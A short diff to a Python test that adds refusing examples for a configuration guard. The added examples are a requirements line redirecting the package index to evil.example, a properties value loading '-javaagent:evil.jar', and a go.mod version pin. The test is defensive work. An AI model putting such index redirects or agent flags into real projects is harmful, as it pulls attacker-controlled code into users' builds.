@@ -445,7 +445,10 @@ def test_patch_protected_still_wins_over_allow(wt):
 def test_every_row_has_a_refusing_example():
     # Each class of CODE_CONFIGS refuses a new file holding what it watches.
     examples = {"toml": lambda key: _toml_example(key), "json": lambda key: json.dumps(_nested(key, "x")),
-                "module": lambda key: MONKEYPATCH, "hooks": lambda key: PLUGIN}
+                "module": lambda key: MONKEYPATCH, "hooks": lambda key: PLUGIN,
+                "requirements": lambda key: "--index-url https://evil.example/simple\n",
+                "properties": lambda key: f"{key.replace('*', 'x')}=-javaagent:evil.jar\n",
+                "gomod": lambda key: f"module x\n\n{key} 1.99\n"}
     for row in CODE_CONFIGS:
         for key in row.keys or ("",):
             path = row.files[0].replace("**/", "").replace("*", "x")
